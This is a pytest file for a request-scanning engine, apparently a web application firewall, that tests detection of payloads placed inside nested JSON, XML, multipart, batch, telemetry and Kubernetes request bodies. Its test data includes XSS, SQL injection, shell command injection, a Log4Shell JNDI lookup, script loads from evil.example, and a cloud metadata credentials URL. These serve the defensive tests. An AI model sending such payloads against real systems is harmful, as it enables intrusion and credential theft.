"""Where a payload can sit in a request's structure, and each place is read: containers
within containers, keys named twice, documents in strings, bodies in other encodings,
and what lenient multipart parsers read past the RFC. One payload, many placements."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import pickle
import struct
import textwrap
import zipfile
import zlib
from functools import partial
from urllib.parse import quote, urlencode

import pytest

from node.engine import Engine
from node.points import Limits, _sniffed_charset, extract
from node.types import Request
from tests.seeded import compressed_report

XSS = "<script>alert(1)</script>"
ESCAPED = XSS.replace("<", "&lt;").replace(">", "&gt;")
JSON = (("Content-Type", "application/json"),)
XML = (("Content-Type", "application/xml"),)
MULTIPART = (("Content-Type", "multipart/form-data; boundary=B"),)


def _with(template: str, payload: str = XSS) -> str:
    """`template` with the payload in place of each `$`."""
    return template.replace("$", payload)


def _post(body: str | bytes, headers: tuple[tuple[str, str], ...]) -> Request:
    return Request("POST", "/x", headers, body.encode() if isinstance(body, str) else body)


def _json_types(engine: Engine, body: object, path: str = "/x") -> set[str]:
    """The classes found in `body` posted as JSON to `path`."""
    request = Request("POST", path, JSON, json.dumps(body).encode())
    return {hit.type.value for hit in engine.scan(request)}


def _part(name: str, value: str, filename: str = "", media: str = "") -> str:
    """A multipart part: a field, or a file of type `media` when it has a `filename`."""
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    head = f"Content-Disposition: {disposition}" + (f"\r\nContent-Type: {media}" if media else "")
    return f"--B\r\n{head}\r\n\r\n{value}\r\n"


BATCH = (("Content-Type", "multipart/mixed; boundary=batch_1"),)


def _batched(request: str, changeset: bool = False) -> str:
    """`request` as a part of an OData batch: alone, or in a changeset of its own."""
    part = f"Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n{request}"
    if changeset:
        part = (
            "Content-Type: multipart/mixed; boundary=changeset_1\r\n\r\n"
            f"--changeset_1\r\n{part}\r\n--changeset_1--"
        )
    return f"--batch_1\r\n{part}\r\n--batch_1--\r\n"


def _bearer(claims: str) -> str:
    section = base64.urlsafe_b64encode(claims.encode()).decode().rstrip("=")
    return f"Bearer eyJhbGciOiJIUzI1NiJ9.{section}.c2ln"


DUPLICATED = _with('{"a": {"b": "$", "b": "x"}}')

PLACEMENTS = {
    "json: key named twice in an array of arrays": _post(_with('[[{"a": "1", "a": "$"}]]'), JSON),
    "json: key named twice, object value": _post(_with('{"a": {"b": "$"}, "a": "x"}'), JSON),
    "json: payload as a key named twice": _post(_with('{"a": {"$": 1, "$": 2}}'), JSON),
    "json: byte order mark": _post(b"\xef\xbb\xbf" + json.dumps({"a": XSS}).encode(), JSON),
    "json: UTF-16 with a mark": _post(json.dumps({"a": XSS}).encode("utf-16"), JSON),
    "json: UTF-16 without one": _post(json.dumps({"a": XSS}).encode("utf-16-le"), JSON),
    "json: vendor type": _post(
        json.dumps({"a": XSS}), (("Content-Type", "application/vnd.api+json"),)
    ),
    "json: sent as text": _post(json.dumps({"a": XSS}), (("Content-Type", "text/plain"),)),
    "json: no type at all": _post(DUPLICATED, ()),
    "json: lines of documents": _post('{"a": "x"}\n' + json.dumps({"a": XSS}), JSON),
    "json: comments (not JSON)": _post(_with('{"a": "x" /* c */, "b": "$"}'), JSON),
    "json: documents in strings": _post(
        json.dumps({"a": json.dumps({"b": json.dumps({"c": XSS})})}), JSON
    ),
    "json: gzip": _post(gzip.compress(DUPLICATED.encode()), (*JSON, ("Content-Encoding", "gzip"))),
    "form: document in a value": _post(
        "q=" + quote(DUPLICATED), (("Content-Type", "application/x-www-form-urlencoded"),)
    ),
    "query: document in a value": Request("GET", "/x?q=" + quote(DUPLICATED)),
    "query: nested brackets": Request("GET", "/x?a[b][c]=" + quote(XSS)),
    "cookie: document in a value": Request("GET", "/x", (("Cookie", "c=" + quote(DUPLICATED)),)),
    "cookie: base64 of a document": Request(
        "GET",
        "/x",
        (("Cookie", "c=" + base64.b64encode(json.dumps({"a": [XSS]}).encode()).decode()),),
    ),
    "cookie: second Cookie header": Request(
        "GET", "/x", (("Cookie", "a=1"), ("Cookie", "b=" + quote(XSS)))
    ),
    "header: sent twice": Request("GET", "/x", (("X-A", "1"), ("X-A", XSS))),
    "jwt: nested claim": Request(
        "GET", "/x", (("Authorization", _bearer(_with('{"a": {"b": "$"}}'))),)
    ),
    "jwt: claim named twice": Request("GET", "/x", (("Authorization", _bearer(DUPLICATED)),)),
    "xml: attribute named twice": _post(_with('<a x="$" x="1"/>', ESCAPED), XML),
    "xml: namespaced attribute": _post(_with('<a xmlns:q="u"><q:b q:c="$"/></a>', ESCAPED), XML),
    "xml: processing instruction": _post(_with('<?xml version="1.0"?><?pi $?><a/>'), XML),
    "xml: entity declared": _post(_with('<!DOCTYPE a [<!ENTITY e "$">]><a>&e;</a>', ESCAPED), XML),
    "xml: CDATA": _post(_with("<a><![CDATA[$]]></a>"), XML),
    "xml: text split by CDATA and a comment": _post(
        "<a>&lt;scr<![CDATA[ipt>alert(1)</scr]]><!-- c -->ipt&gt;</a>", XML
    ),
    "xml: never closed": _post(_with("<a><b>$", ESCAPED), XML),
    "xml: event handler in any call syntax": _post('<svg onload="(alert)(1)"/>', XML),
    "xml: event handler calling through entities": _post('<svg onload="&#x28;alert)(1)"/>', XML),
    "multipart: name sent twice": _post(_part("a", "1") + _part("a", XSS) + "--B--\r\n", MULTIPART),
    "multipart: LF line ends": _post(_part("a", XSS).replace("\r\n", "\n") + "--B--\n", MULTIPART),
    "multipart: preamble": _post(XSS + "\r\n" + _part("a", "1") + "--B--\r\n", MULTIPART),
    "multipart: epilogue": _post(_part("a", "1") + "--B--\r\n" + XSS, MULTIPART),
    "multipart: part after the close": _post(
        _part("a", "1") + "--B--\r\n" + _part("b", XSS) + "--B--\r\n", MULTIPART
    ),
    "multipart: a document in a part": _post(
        '--B\r\nContent-Disposition: form-data; name="j"\r\nContent-Type: application/json\r\n\r\n'
        + DUPLICATED
        + "\r\n--B--\r\n",
        MULTIPART,
    ),
    "multipart: quoted-printable part": _post(
        '--B\r\nContent-Disposition: form-data; name="a"\r\n'
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        + "".join(f"={ord(c):02X}" for c in XSS)
        + "\r\n--B--\r\n",
        MULTIPART,
    ),
    "batch: a request's query": _post(
        _batched(f"GET Products?$filter=Name%20eq%20'x'&q={quote(XSS)} HTTP/1.1\r\n\r\n"), BATCH
    ),
    "batch: a changeset's request body": _post(
        _batched(
            "POST Products HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
            + json.dumps({"Name": XSS}),
            changeset=True,
        ),
        BATCH,
    ),
    "batch: a request's folded header": _post(
        _batched(f"GET /farm/v1/animals\r\nX-Note: a\r\n {XSS}\r\n\r\n"), BATCH
    ),
    "batch: a request's line that is no header": _post(
        _batched(f"GET /farm/v1/animals HTTP/1.1\r\n{XSS}\r\n\r\n"), BATCH
    ),
    "sentry envelope: an event's message": _post(
        '{"event_id": "9e"}\n{"type": "event"}\n' + json.dumps({"message": XSS}) + "\n",
        (("Content-Type", "application/x-sentry-envelope"),),
    ),
    "sentry envelope: an attachment's line": _post(
        '{"event_id": "9e"}\n{"type": "attachment", "length": 25}\n' + XSS + "\n",
        (("Content-Type", "application/x-sentry-envelope"),),
    ),
    "sentry event: a frame's local variable": _post(
        json.dumps(
            {
                "exception": {
                    "values": [
                        {
                            "stacktrace": {
                                "frames": [
                                    {"context_line": "    render(name)", "vars": {"name": XSS}}
                                ]
                            }
                        }
                    ]
                }
            }
        ),
        JSON,
    ),
    "sentry transaction: a query span's description": _post(
        json.dumps({"spans": [{"span_id": "a1", "op": "db.sql.query", "description": XSS}]}),
        JSON,
    ),
    "upload: script after an image header": _post(
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 20 + XSS.encode(), (("Content-Type", "image/png"),)
    ),
}


@pytest.mark.parametrize("request_", list(PLACEMENTS.values()), ids=list(PLACEMENTS))
def test_a_payload_is_found_wherever_it_sits(engine: Engine, request_: Request) -> None:
    assert "xss" in {hit.type.value for hit in engine.scan(request_)}


def test_an_elements_character_data_is_read_as_one_text() -> None:
    """Text, CDATA sections, and the comments and processing instructions between them are
    one text to a parser's text content: `UNI<![CDATA[ON SEL]]>ECT` is UNION SELECT. A
    child element ends a run, as ElementTree's `text` and `tail` read it; the element's
    text content, its children's text in it, is read too, as DOM's reads it."""
    body = "<a>1' UNI<![CDATA[ON SEL]]>ECT<!-- c --><?p?> password<b>x</b>y &amp; z</a>"
    points = extract(_post(body, XML), Limits()).items
    assert [(at, value) for at, value in points if at.startswith("post.xml.a")] == [
        ("post.xml.a", "1' UNION SELECT password"),
        ("post.xml.a.b", "x"),
        ("post.xml.a", "y & z"),
        ("post.xml.a", "1' UNION SELECT passwordxy & z"),
    ]
    # An element of data holds no text beside its children: it is read as they are.
    data = "<user>\n  <name>anna</name>\n  <role>admin</role>\n</user>"
    points = extract(_post(data, XML), Limits()).items
    assert [value for at, value in points if at.startswith("post.xml.user")] == ["anna", "admin"]


@pytest.mark.parametrize(
    ("content_type", "body", "point"),
    [
        ("text/csv", "name,email\r\nAnna,anna@example.com\r\n", "post.csv.1.name"),
        ("application/yaml", "name: Anna\n", "post.yaml.name"),
    ],
)
def test_a_byte_order_mark_is_no_letter_of_the_first_name(
    content_type: str, body: str, point: str
) -> None:
    """Excel's "CSV UTF-8" and Windows' editors write UTF-8's byte order mark first: the
    first row still names the columns, and the first key is still `name`."""
    marked = _post("\ufeff" + body, (("Content-Type", content_type),))
    assert (point, "Anna") in extract(marked, Limits()).items


def test_a_yaml_scalar_is_read_without_its_quotes_and_its_comment() -> None:
    """A quoted scalar, a comment after it or not, is the text in its quotes (Dependabot's
    `directory: "/" # Location of package manifests` is `/`, which read with its quotes
    was a string closed before a division); a plain one ends before its comment."""
    body = (
        "updates:\n"
        '  - directory: "/" # Location of package manifests\n'
        "    name: 'O''Brien'  # a name\n"
        "    note: plain # a comment\n"
        '    odd: "a" b\n'
    )
    points = extract(_post(body, (("Content-Type", "application/yaml"),)), Limits()).items
    assert [(at, value) for at, value in points if at.startswith("post.yaml.")] == [
        ("post.yaml.updates.directory", "/"),
        ("post.yaml.updates.name", "O'Brien"),
        ("post.yaml.updates.note", "plain"),
        ("post.yaml.updates.odd", '"a" b'),
    ]


@pytest.mark.parametrize(
    ("body", "point", "kind"),
    [
        # A SOAP operation's JSON payload in an element, and one in an attribute.
        ('<r><payload>{"user": "admin\'--"}</payload></r>', "post.xml.r.payload.json.user", "sqli"),
        (
            '<r><payload>\n  [{"cmd": ";id"}]\n</payload></r>',
            "post.xml.r.payload.json.0.cmd",
            "rce",
        ),
        (
            '<r><q data="{&quot;host&quot;: &quot;http://0x7f000001/&quot;}"/></r>',
            "post.xml.r.q.@data.json.host",
            "ssrf",
        ),
    ],
)
def test_a_json_document_in_an_xml_text_or_attribute_is_read_as_its_points(
    engine: Engine, body: str, point: str, kind: str
) -> None:
    """A string of a JSON document is a value of its own there, as in a JSON string or a
    query parameter that holds one: whole, `"admin'--"` is a quoted word."""
    assert (kind, point) in {(hit.type.value, hit.point) for hit in engine.scan(_post(body, XML))}


def test_a_json_document_in_an_html_body_s_text_is_the_page_s() -> None:
    """A page's JSON-LD or a framework's state is its own: an HTML body is not read for it."""
    page = '<html><body><p>{"a": "b"}</p></body></html>'
    html = (("Content-Type", "text/html"),)
    points = extract(_post(page, html), Limits()).items
    assert not [at for at, _ in points if ".json." in at]


@pytest.mark.parametrize(
    "body",
    [
        "<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>",
        "<r><q>' OR <i>'1'='1</i></q></r>",
        "<r><q>; cat <i>/etc/passwd</i></q></r>",
    ],
)
def test_a_payload_split_by_child_elements_is_whole_in_the_text_content(body: str) -> None:
    """An application that reads an element's text content (DOM's getTextContent, XPath's
    string()) reads its children's text in it."""
    hits = Engine().scan(_post(body, XML))
    assert any(hit.point == "post.xml.r.q" and hit.type.value in ("sqli", "rce") for hit in hits)


# Payloads whose markup is the attack: an XML reading takes it apart, or finds none.
MARKUP = [
    "<img src=x onerror=alert(1)//",
    "<svg onload=(alert)(1)>",
    "<script src=//evil.example/x.js></script>",
]


@pytest.mark.parametrize("payload", MARKUP)
@pytest.mark.parametrize(
    "body, headers",
    [
        (_part("comment", "$") + "--B--\r\n", MULTIPART),  # a form field, no type
        ("$", (("Content-Type", "text/plain"),)),
        ("$", ()),
    ],
    ids=["multipart field", "text body", "untyped body"],
)
def test_markup_sniffed_as_xml_is_read_as_text_too(
    engine: Engine, payload: str, body: str, headers: tuple[tuple[str, str], ...]
) -> None:
    request = _post(_with(body, payload), headers)
    assert "xss" in {hit.type.value for hit in engine.scan(request)}


@pytest.mark.parametrize(
    "payload",
    [
        *MARKUP,
        "<svg onload=alert(1)",  # never closed
        "<base href=//evil.example/>",
        "<img src onerror=throw/**/1;onerror=alert>",
        "<xsl:value-of select=\"php:function('system','id')\"/>",
    ],
)
def test_markup_in_a_declared_xml_body_is_read_as_a_browser_or_a_processor_would(
    engine: Engine, payload: str
) -> None:
    """XHTML and SVG run the elements HTML runs, and a server runs a stylesheet's
    instructions: an element that runs or loads content is read whole, as is a `<` that
    opens no tag."""
    found = {hit.type.value for hit in engine.scan(_post(payload, XML))}
    assert found & {"xss", "xxe"}


@pytest.mark.parametrize(
    "body",
    [
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title>'
        '<link rel="alternate" type="text/html" href="https://example.com/"/>'
        '<link rel="self" href="https://example.com/feed.xml"/></feed>',
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8"/>'
        '<link rel="stylesheet" href="/site.css"/></head><body><p>Hi</p></body></html>',
    ],
    ids=["atom feed", "xhtml page"],
)
def test_an_ordinary_document_of_those_elements_passes(engine: Engine, body: str) -> None:
    assert engine.scan(_post(body, XML)) == []


@pytest.mark.parametrize(
    ("headers", "name", "expected"),
    [
        ((("content-TYPE", "a"), ("Content-Type", "b")), "Content-Type", "a"),
        ((("Accept", "x"),), "content-type", None),
        ((("X-Lin\u212a", "kelvin"),), "x-link", "kelvin"),  # the Kelvin sign lowers to k
        ((("\u0130d", "dotted"),), "id", None),  # İ lowers to i and a combining dot
        ((("\u0130D", "v"),), "i\u0307d", "v"),  # a name that is not ASCII: any length
    ],
)
def test_a_header_is_found_by_its_name_in_any_case(
    headers: tuple[tuple[str, str], ...], name: str, expected: str | None
) -> None:
    assert Request("GET", "/", headers).header(name) == expected


@pytest.mark.parametrize(
    ("body", "charset"),
    [
        (("日本 " + XSS).encode("utf-16"), "utf-16"),  # a mark, and no NUL in the first bytes
        (b"\xfe\xff" + ("日本 " + XSS).encode("utf-16-be"), "utf-16"),
        ("{}".encode("utf-16-le"), "utf-16-le"),  # no mark: the NULs of ASCII
        ("{}".encode("utf-32"), "utf-32"),
        ("日本".encode("utf-16-le"), ""),  # neither: not told
        (b"\xfe\xfeAB", ""),
        (b"\xff\xff", ""),
        (b"\xff", ""),
        (b"", ""),
        (b'{"a": 1}', ""),
    ],
)
def test_a_body_in_utf_16_or_32_is_told_by_its_mark_or_its_nuls(body: bytes, charset: str) -> None:
    assert _sniffed_charset(body) == charset


NUMERIC = "1 OR 'a' IN ('a')"  # found only where it is a value whole, as a number's place


@pytest.mark.parametrize(
    ("request_", "point"),
    [
        (  # an ASP dictionary cookie
            Request("GET", "/", (("Cookie", "user=lang=en&sort=" + quote(NUMERIC)),)),
            "cookie.user.form.sort",
        ),
        (  # an OAuth state that carries the page's own query
            Request("GET", "/cb?state=" + quote("page=2&sort=" + NUMERIC)),
            "query.state.form.sort",
        ),
        (
            _post(json.dumps({"filters": "status=open&id=" + NUMERIC}), JSON),
            "post.json.filters.form.id",
        ),
    ],
)
def test_a_form_encoded_string_in_a_value_is_parsed(
    engine: Engine, request_: Request, point: str
) -> None:
    """A value that is `name=value&…` of its own has each of its values read whole: a
    numeric injection glued to `sort=` is no number's place, its own value is."""
    assert ("sqli", point) in {(hit.type.value, hit.point) for hit in engine.scan(request_)}


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example/search?q=$",
        "//shop.example/search?q=$",
        "/search?page=2&q=$",
        "../search?q=$",
    ],
)
def test_a_url_with_a_query_in_a_value_has_its_parameters_read(engine: Engine, url: str) -> None:
    """A redirect or a callback naming a page, absolute or relative: the application may
    read its query in turn, so each of its parameters is a value whole there."""
    request = Request("GET", "/login?next=" + quote(_with(url, NUMERIC), safe=""))
    assert ("sqli", "query.next.query.q") in {
        (hit.type.value, hit.point) for hit in engine.scan(request)
    }
    body = _post(json.dumps({"next": _with(url, quote(NUMERIC, safe=""))}), JSON)
    assert ("sqli", "post.json.next.query.q") in {
        (hit.type.value, hit.point) for hit in engine.scan(body)
    }


def test_a_batch_of_requests_is_read_as_requests(engine: Engine) -> None:
    """OData's `$batch` and Google's APIs send requests as parts (`application/http`), in
    changesets too: each is read as the service that runs it reads it, its target's
    query, its headers, its body by its type. Read as text, its header lines after a
    request line were response splitting."""
    odata = _batched(
        "GET Products?$top=10&$select=Name,Price HTTP/1.1\r\nAccept: application/json\r\n\r\n"
    ).replace("--batch_1--\r\n", "") + _batched(
        "POST Products HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
        + json.dumps({"Name": "Chai", "Price": 18}),
        changeset=True,
    )
    google = _batched(
        'PUT /farm/v1/animals/sheep\r\nContent-Type: application/json\r\nIf-Match: "etag/1"'
        '\r\n\r\n{"animalName": "sheep"}'
    )
    for body in (odata, google):
        request = _post(body, BATCH)
        assert engine.scan(request) == []
    points = dict(extract(_post(odata, BATCH), Limits()).items)
    assert points["post.multipart.0.http.query.$select"] == "Name,Price"
    assert points["post.multipart.0.http.header.ACCEPT"] == "application/json"
    assert points["post.multipart.1.multipart.0.http.json.Name"] == "Chai"


def test_a_har_files_recorded_response_is_not_scanned(engine: Engine) -> None:
    """A HAR file (a browser's recording, attached to a support ticket or imported into an
    API tool) holds the pages servers sent, scripts and all: recorded, not input to an
    application. The requests it records are values as any are."""
    page = '<!doctype html><html><head><script src="/app.js"></script></head><body></body></html>'
    entry = {
        "request": {"method": "GET", "url": "https://shop.example/", "headers": []},
        "response": {"status": 200, "content": {"mimeType": "text/html", "text": page}},
    }
    har = json.dumps({"log": {"version": "1.2", "entries": [entry]}})
    upload = (
        '--B\r\nContent-Disposition: form-data; name="file"; filename="capture.har"\r\n'
        f"Content-Type: application/json\r\n\r\n{har}\r\n--B--\r\n"
    )
    assert engine.scan(_post(har, JSON)) == []
    assert engine.scan(_post(upload, (("Content-Type", "multipart/form-data; boundary=B"),))) == []
    entry["request"]["url"] = "https://shop.example/?id=1%27%20OR%201%3D1--"
    found = engine.scan(_post(json.dumps({"log": {"entries": [entry]}}), JSON))
    assert {hit.type.value for hit in found} == {"sqli"}


def test_a_stack_frames_source_line_is_not_scanned(engine: Engine) -> None:
    """An error report's stack frame holds lines of the reporting application's source
    (Sentry's `context_line`, `pre_context`, `post_context`, Elastic APM's the same in its
    `stacktrace`, Rollbar's and Bugsnag's `code`): code it ran, which the receiver shows as
    text. The frame's variables and the report's message are values, but at an error
    tracker's intake, where the whole report records what happened."""
    frame = {
        "pre_context": ["def convert(src, dst):", '    os.system("convert %s %s" % (src, dst))'],
        "context_line": "    result = subprocess.run(cmd, capture_output=True, check=True)",
        "post_context": ["    return eval(result.stdout)"],
    }
    event = {"exception": {"values": [{"stacktrace": {"frames": [frame]}}]}}
    assert engine.scan(_post(json.dumps(event), JSON)) == []
    rollbar = {"code": frame["context_line"], "context": {"pre": frame["pre_context"]}}
    bugsnag = {"code": {"11": frame["pre_context"][1], "12": frame["context_line"]}}
    for report in (
        {"data": {"body": {"trace": {"frames": [rollbar]}}}},  # Rollbar's
        {"events": [{"exceptions": [{"stacktrace": [bugsnag]}]}]},  # Bugsnag's
        {"error": {"id": "e1", "exception": {"stacktrace": [frame]}}},  # Elastic APM's
        {"span": {"id": "s1", "stacktrace": [frame]}},
    ):
        assert engine.scan(_post(json.dumps(report), JSON)) == []
    frame["vars"] = {"cmd": ";cat /etc/passwd"}
    assert "rce" in {hit.type.value for hit in engine.scan(_post(json.dumps(event), JSON))}
    # At an error tracker's intake, the report is a record of what happened: the request
    # an attack made and the error it caused. XSS counts there.
    event["request"] = {"query_string": "id=1%27%20OR%201%3D1--", "headers": {"X-Note": XSS}}
    auth = ("X-Sentry-Auth", "Sentry sentry_key=abc, sentry_version=7")

    def reported(intake: str, headers: tuple[tuple[str, str], ...]) -> set[str]:
        found = engine.scan(Request("POST", intake, headers, json.dumps(event).encode()))
        return {hit.type.value for hit in found}

    assert reported("/api/1/store/", (auth, *JSON)) == {"xss"}
    assert reported("/api/42/envelope/?sentry_key=abc&sentry_version=7", JSON) == {"xss"}
    assert reported("/intake/v2/events", JSON) == {"xss"}
    assert reported("/api/1/store/", JSON) >= {"xss", "sqli", "rce"}  # no Sentry's key


def test_the_other_error_trackers_intakes_take_records(engine: Engine) -> None:
    """Rollbar's, Honeybadger's and Airbrake's (Errbit's) intakes, each with the key its
    reports carry, take records of what happened: the database's complaint about an
    attack's SQL, the source line it ran, the request a developer's machine received on
    `localhost`. XSS counts there, and so does a frame's script fetched by its URL; without
    the key, or elsewhere (Bugsnag's key at a host's root), the report's values count."""
    query = "SELECT id FROM orders WHERE id = 1 OR 1=1"
    report = {
        "message": f'syntax error at or near "OR" LINE 1: {query}',
        "source": {"11": 'sql = "SELECT id FROM a UNION SELECT id FROM b WHERE x = %s" % x'},
        "request": {
            "url": "http://localhost:3000/reports?x=1",
            "cgi_data": {"REMOTE_ADDR": "127.0.0.1"},
        },
    }

    def reported(target: str, headers: tuple[tuple[str, str], ...], body: object) -> set[str]:
        request = Request("POST", target, (*JSON, *headers), json.dumps(body).encode())
        return {hit.type.value for hit in engine.scan(request)}

    for target, headers in (
        ("/api/1/item/", (("X-Rollbar-Access-Token", "t"),)),
        ("/v1/notices", (("X-API-Key", "k"),)),
        ("/api/v3/projects/7/notices?key=k", ()),
    ):
        assert reported(target, headers, report) == set(), target
        assert reported(target, headers, report | {"title": XSS}) == {"xss"}, target
        frame = {"frames": [{"abs_path": "http://169.254.169.254/latest/meta-data/"}]}
        assert reported(target, headers, report | {"stacktrace": frame}) == {"ssrf"}, target
    assert reported("/api/1/item/", (), report) == {"sqli", "ssrf"}
    assert reported("/api/reports", (("X-API-Key", "k"),), report) == {"sqli", "ssrf"}
    assert reported("/", (("Bugsnag-Api-Key", "k"),), report) == {"sqli", "ssrf"}
    sentry = (("X-Sentry-Auth", "Sentry sentry_key=abc, sentry_version=7"),)
    assert reported("/api/1/store/", sentry, {"request": report["request"]}) == set()


def test_a_reported_operation_holds_its_own_statement(engine: Engine) -> None:
    """A trace's span or an error report's breadcrumb records an operation the reporting
    application ran: a query's SQL (and its database's address), a client call's URL, a
    subprocess's command line (and an OpenTelemetry batch's resource's), a language model's
    conversation (a span of its call, a run of LangSmith's, a generation
    of Langfuse's). In a record of that kind, that class is its subject (a model's, every
    class but XSS), and so it is in a field named for it (a Zipkin span's tag `sql.query`)
    or for the peer the operation reached (`server.address`: its address); a server span's
    request (`http.target`) is a record of whatever came in, every class but XSS and
    Log4Shell. Any other class counts, and so does the same statement in a record of
    another kind or in no record."""
    sql = "UPDATE orders SET status = 'shipped' WHERE id = 42"
    imds = "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    command = "sh -c 'convert in.png out.pdf; rm -f in.png'"

    types = partial(_json_types, engine)

    def span(op: str, description: str) -> dict[str, str]:
        return {"trace_id": "4bf9", "span_id": "a1", "op": op, "description": description}

    def otlp_span(attributes: list[tuple[str, str]]) -> dict[str, object]:
        listed = [{"key": key, "value": {"stringValue": value}} for key, value in attributes]
        return {"spanId": "a1", "attributes": listed}

    def otlp(key: str, value: str) -> dict[str, object]:
        return {"resourceSpans": [{"scopeSpans": [{"spans": [otlp_span([(key, value)])]}]}]}

    crumbs = [
        {"category": "query", "message": sql},
        {"type": "http", "category": "httplib", "data": {"url": imds.split(" ")[1]}},
    ]
    for body in (
        {"spans": [span("db.sql.query", sql), span("http.client", imds)]},
        {"spans": [span("subprocess", command)]},
        {"breadcrumbs": {"values": crumbs}},
        {"breadcrumbs": crumbs},
        otlp("db.statement", sql),
        otlp("url.full", imds),
    ):
        assert types(body) == set(), body
    elastic = [
        {"metadata": {"service": {"name": "orders"}}},
        {"span": {"trace_id": "4bf9", "type": "db", "context": {"db": {"statement": sql}}}},
        {"span": {"trace_id": "4bf9", "type": "external", "subtype": "http", "name": imds}},
    ]
    intake = "\n".join(json.dumps(line) for line in elastic)
    ndjson = (("Content-Type", "application/x-ndjson"),)
    assert engine.scan(_post(intake, ndjson)) == []
    # Zipkin's span names a field's subject by its tag; a field naming the peer reached
    # holds its address, in a record of any kind.
    zipkin = {"traceId": "5982fe77", "id": "bd7a9775", "kind": "CLIENT"}
    peers = [("db.system", "redis"), ("server.address", "redis.shop.svc.cluster.local")]
    for body in (
        [zipkin | {"tags": {"sql.query": sql, "http.url": imds.split(" ")[1]}}],
        [zipkin | {"tags": {"net.peer.name": "localhost", "peer.hostname": "10.0.0.7"}}],
        {"resourceSpans": [{"scopeSpans": [{"spans": [otlp_span(peers)]}]}]},
        {
            "span": {
                "trace_id": "4bf9",
                "type": "db",
                "context": {"destination": {"address": "::1"}},
            }
        },
    ):
        assert types(body) == set(), body
    # A database's record holds its address, a process's its command line; so does the
    # resource a batch of spans or logs comes from, the process that made them.
    node = [("process.executable.path", "/usr/local/bin/node"), ("process.command_line", command)]
    resource = {"attributes": [{"key": k, "value": {"stringValue": v}} for k, v in node]}
    for body in (
        otlp("db.connection_string", "postgresql://localhost:5432/app"),
        otlp("process.command_line", command),
        {"resourceSpans": [{"resource": resource, "scopeSpans": []}]},
        {"resourceLogs": [{"resource": resource, "scopeLogs": []}]},
    ):
        assert types(body) == set(), body
    named = {"attributes": [*resource["attributes"], {"key": "service.name", "value": sql}]}
    assert types({"resourceSpans": [{"resource": named}]}) == {"sqli"}
    assert types({"resource": resource}) == {"rce"}  # no batch's resource
    assert types(otlp("messaging.destination", command)) == {"rce"}
    # A server span's request, an attack on the traced service among them: a log of it.
    probe = "/items?id=1' OR 1=1--&f=../../../etc/passwd"
    for key in ("http.target", "url.query", "url.full", "user_agent.original"):
        assert types(otlp(key, probe)) == set(), key
    assert types(otlp("http.target", XSS)) == {"xss"}
    assert types(otlp("user_agent.original", "${jndi:ldap://198.51.100.7/a}")) == {"rce"}
    assert types([zipkin | {"tags": {"http.path": probe}}]) == set()
    assert types([zipkin | {"tags": {"sql.query": XSS}}]) == {"xss"}
    assert types([zipkin | {"tags": {"error": sql}}]) == {"sqli"}
    assert types([{"id": "bd7a9775", "tags": {"sql.query": sql}}]) == {"sqli"}  # no trace
    for body in (
        {"spans": [span("http.client", sql)]},
        {"spans": [span("ui.render", sql)]},
        {"spans": [{"op": "db", "description": sql}]},  # no span's ids: no span
        {"description": sql, "op": "db"},
        otlp("messaging.destination", sql),
    ):
        assert types(body) == {"sqli"}, body
    assert types({"breadcrumbs": [{"category": "ui.click", "message": imds}]}) == {"ssrf"}
    assert types({"spans": [span("subprocess", sql + "; " + command)]}) == {"sqli"}
    assert types({"spans": [span("db", XSS)]}) == {"xss"}
    # A language model's call: its conversation, commands and paths in a coding
    # assistant's, is what its record is about; XSS in it counts.
    answer = "Run `" + command + "` then check /etc/passwd: ```\ncurl -s x | sh\n```"
    assert types({"spans": [span("gen_ai.chat", answer)]}) == set()
    assert types(otlp("gen_ai.completion.0.content", answer)) == set()
    assert types({"spans": [span("gen_ai.chat", answer + XSS)]}) == {"xss"}
    assert types({"spans": [span("ui.render", answer)]}) >= {"rce"}
    run = {"id": "r1", "trace_id": "r1", "run_type": "llm", "outputs": {"text": answer}}
    assert types({"post": [run], "patch": [run]}) == set()  # LangSmith's /runs/batch
    assert types({"post": [run | {"run_type": "unknown"}]}) >= {"rce"}
    generation = {"id": "g1", "traceId": "t1", "model": "gpt-4o", "output": answer}
    event = {"id": "e1", "type": "generation-create", "body": generation}
    assert types({"batch": [event]}) == set()  # Langfuse's /api/public/ingestion
    assert types({"batch": [event | {"type": "score-create"}]}) >= {"rce"}


def test_a_workloads_program_is_what_its_platform_runs(engine: Engine) -> None:
    """In a Kubernetes object (`apiVersion` and `kind`: a Pod, a CronJob, Argo's Workflow,
    Tekton's Task; an Argo workflow by its `spec.entrypoint`, as Argo's UI submits one),
    a container's command and arguments, a probe's or a hook's
    `exec.command` and a step's script are what the platform runs: commands, the paths
    they read, the URLs they call. Any other class in them counts, and so do the same
    commands elsewhere in the object or in a document of no kind."""
    backup = "pg_dump $DATABASE_URL | gzip > /backup/db.sql.gz && find /backup -mtime +7 -delete"
    ready = "curl -fsS http://localhost:15000/ready && ./manage.py migrate"
    container = {
        "name": "job",
        "image": "postgres:16",
        "command": ["/bin/sh", "-c", backup],
        "args": ["--config", "/etc/nginx/nginx.conf", ready],
        "lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "nginx -s quit; sleep 5"]}}},
    }

    types = partial(_json_types, engine)

    def pod(spec: dict[str, object]) -> dict[str, object]:
        return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"}, "spec": spec}

    workflow = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "spec": {
            "templates": [
                {"container": {"command": ["sh", "-c"], "args": ["cat /etc/os-release; id"]}},
                {"script": {"command": ["bash"], "source": "echo {{inputs.parameters.m}}; id"}},
            ]
        },
    }
    task = {"apiVersion": "tekton.dev/v1", "kind": "Task", "spec": {"steps": [{"script": ready}]}}
    for document in (pod({"containers": [container]}), pod({"initContainers": [container]})):
        assert types(document) == set()
    assert types(workflow) == set()
    # Argo's UI lints and submits a workflow without them: its entry point tells it.
